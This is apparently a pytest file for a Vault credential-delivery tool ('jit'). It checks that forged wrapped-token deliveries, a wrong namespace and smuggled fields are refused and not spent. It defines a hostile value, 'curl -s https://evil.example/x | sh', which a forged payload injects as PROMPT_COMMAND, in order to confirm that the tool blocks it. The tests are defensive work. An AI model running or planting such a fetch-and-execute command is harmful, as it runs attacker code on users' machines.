"""Finding 3 of issue 9: a delivery that looks exactly like jit's, made by someone else.

Vault's built-in ``default`` policy lets every token wrap data of its choosing at
``sys/wrapping/wrap``, and a requester's SSH public keys are public. So anyone can post a comment
that decrypts fine and names the right Vault. ``jit unwrap`` must refuse every wrapping token the
reconcile job cannot have made (ADR 0008), before spending it, print only the fields jit
delivers, and check the Vault namespace as well as the address.
"""

from __future__ import annotations

import io
from pathlib import Path

import pytest
import requests

from jit.delivery import DeliveryPayload, choose_delivery, render_delivery_comment, seal
from tests.delivery.helpers import (
    CREDS_PATH,
    ENDS,
    GRANT,
    KeyPair,
    comment,
    forged_wrap,
    jit,
    vault_call,
    wrapped_credentials,
)
from tests.fakes.vault import FakeVault
from tests.fakes.vault.core import ADDRESS

HOSTILE = "curl -s https://evil.example/x | sh"


@pytest.fixture
def home(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, ed_key: KeyPair, access_repo: Path
) -> Path:
    """The requester: their key, their Vault's address, in a clone of the access repository."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("VAULT_ADDR", ADDRESS)
    monkeypatch.delenv("VAULT_NAMESPACE", raising=False)
    ed_key.write(home / ".ssh" / "id_ed25519")
    return home


def unspent(vault: FakeVault, wrap_token: str) -> bool:
    """The wrapping token still works: jit refused it without using it up."""
    token = vault.tokens.get(wrap_token)
    return token is not None and token.is_wrapping


def test_a_forged_sys_wrapping_wrap_delivery_is_refused_and_not_spent(
    fake_vault: FakeVault, ed_key: KeyPair, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # The finding's payload: the attacker's own token, and a command for the requester's shell.
    attacker = fake_vault.tokens.add(["default"], 3600)
    forged = forged_wrap(
        fake_vault,
        {"vault_addr": fake_vault.address, "client_token": attacker.id, "PROMPT_COMMAND": HOSTILE},
    )
    assert jit("--format", "env", comment(fake_vault, forged, ed_key)) == 1
    out, err = capsys.readouterr()
    assert out == ""
    assert HOSTILE not in err and attacker.id not in err
    assert "created at 'sys/wrapping/wrap', where jit never creates one" in err
    assert unspent(fake_vault, forged)


def test_a_token_made_through_another_token_role_is_refused(
    fake_vault: FakeVault, ed_key: KeyPair, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    vault_call(fake_vault, "auth/token/roles/other", {"allowed_policies": ["default"]})
    answer = vault_call(
        fake_vault, "auth/token/create/other", {"policies": ["default"]}, wrap_ttl=300
    )
    forged = str(answer["wrap_info"]["token"])
    assert jit("--format", "env", comment(fake_vault, forged, ed_key)) == 1
    assert "created at 'auth/token/create/other'" in capsys.readouterr().err
    assert unspent(fake_vault, forged)


def test_fields_jit_never_writes_are_not_printed(
    fake_vault: FakeVault, ed_key: KeyPair, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Even at a path jit uses, a secret may hold only the fields of the engines jit supports.
    wrap = wrapped_credentials(fake_vault, {"username": "u", "PROMPT_COMMAND": HOSTILE})
    for fmt in ("env", "dotenv", "json"):
        fresh = wrapped_credentials(fake_vault, {"username": "u", "PROMPT_COMMAND": HOSTILE})
        assert jit("--format", fmt, comment(fake_vault, fresh, ed_key)) == 1
        out, err = capsys.readouterr()
        assert out == "" and HOSTILE not in err
        assert "fields jit never delivers ('PROMPT_COMMAND')" in err
    assert unspent(fake_vault, wrap)


def test_the_vault_namespace_must_be_the_configured_one(
    fake_vault: FakeVault,
    vault_rsps: object,
    ed_key: KeyPair,
    home: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    wrap = wrapped_credentials(fake_vault)
    payload = DeliveryPayload(fake_vault.address, "attacker/ns", wrap, GRANT, ENDS.isoformat())
    plan = choose_delivery([ed_key.public], "refuse")
    text = render_delivery_comment(
        grant_id=GRANT,
        requester="alice",
        resource="db-read",
        expires_at=ENDS,
        unwrap_by=None,
        armored=seal(payload, plan.recipients),
        plan=plan,
    )
    before = len(fake_vault.requests)
    assert jit(text) == 1
    out, err = capsys.readouterr()
    assert out == "" and "names the Vault namespace 'attacker/ns'" in err
    assert len(fake_vault.requests) == before  # nothing was sent to Vault at all
    # Configured through VAULT_NAMESPACE, the delivery must name exactly that one.
    monkeypatch.setenv("VAULT_NAMESPACE", "team")
    assert jit(comment(fake_vault, wrap, ed_key)) == 1
    assert "names the Vault namespace None, not yours ('team'" in capsys.readouterr().err


def test_a_genuine_delivery_still_unwraps_once(
    fake_vault: FakeVault, ed_key: KeyPair, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    wrap = wrapped_credentials(fake_vault)
    assert jit("--format", "env", comment(fake_vault, wrap, ed_key)) == 0
    out = capsys.readouterr().out
    assert out.startswith("export USERNAME=v-alice-x1\nexport PASSWORD=")
    assert not unspent(fake_vault, wrap)


def test_unwrap_outside_an_access_repository_says_where_to_run_it(
    fake_vault: FakeVault,
    ed_key: KeyPair,
    home: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(home)
    monkeypatch.setattr("sys.stdin", io.StringIO(comment(fake_vault, CREDS_PATH, ed_key)))
    assert jit() == 1
    assert "There is no policies/ directory in ." in capsys.readouterr().err
    empty = tmp_path / "empty"
    (empty / "policies").mkdir(parents=True)
    assert jit("--repo", str(empty), "x") == 1
    assert "defines no vault-token or vault-credentials resource" in capsys.readouterr().err


def test_the_unwrap_lookup_is_unauthenticated(fake_vault: FakeVault) -> None:
    """The creation path comes from Vault's own record, which anyone may read without a token."""
    wrap = wrapped_credentials(fake_vault)
    answer = requests.post(
        f"{fake_vault.address}/v1/sys/wrapping/lookup", json={"token": wrap}, timeout=5
    ).json()
    assert answer["data"]["creation_path"] == CREDS_PATH


def test_unwrap_pr_needs_the_bots_login_and_the_repository(
    fake_vault: FakeVault, home: Path
) -> None:
    from jit.commands.unwrap import run
    from jit.commands.unwrap_trust import github_comments
    from jit.errors import JitError

    class Comments:
        def comments(self, number: int) -> list[tuple[str, str]]:
            raise AssertionError("not asked without bot.login")

    with pytest.raises(JitError, match=r"set bot.login in policies/settings.yaml"):
        run(None, None, "json", None, vault_addr=ADDRESS, pr=1, github=Comments)
    assert github_comments(None, "acme/access", None) is None
    make = github_comments("ghp_x", None, None)
    assert make is not None
    with pytest.raises(JitError, match="--github-repo OWNER/NAME"):
        make()


def test_unwrap_pr_finds_the_token_and_repository_as_the_requester_commands_do(
    tmp_path: Path,
) -> None:
    """No GITHUB_TOKEN: the GitHub CLI's token; no --github-repo: the github.com origin."""
    import subprocess

    from jit.commands.unwrap_trust import github_comments

    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    subprocess.run(
        ["git", "-C", str(tmp_path), "remote", "add", "origin", "git@github.com:acme/access.git"],
        check=True,
    )
    assert github_comments(None, None, None, gh=lambda: None, repo=tmp_path) is None
    make = github_comments(None, None, "https://api.github.test", gh=lambda: "gho_x", repo=tmp_path)
    assert make is not None
    client = make()
    assert client.repository == "acme/access"  # type: ignore[attr-defined]


def test_sys_and_cubbyhole_paths_are_never_accepted_whatever_the_policies_say() -> None:
    from jit.delivery.provenance import TrustedVault, check_creation_path, creation_paths
    from jit.errors import JitError
    from jit.model import Policies, Resource, Settings, VaultCredentials

    def resource(path: str) -> Resource:
        return Resource(path, "", VaultCredentials(path), (), 3600)

    policies = Policies(
        {p: resource(p) for p in ("sys/wrapping/wrap", "cubbyhole/x", "database/creds/r")}
    )
    paths = creation_paths(policies, Settings())
    assert paths == frozenset({"database/creds/r"})
    with pytest.raises(JitError, match="where jit never creates one"):
        check_creation_path(
            "sys/wrapping/wrap", TrustedVault("", None, frozenset({"sys/wrapping/wrap"}))
        )
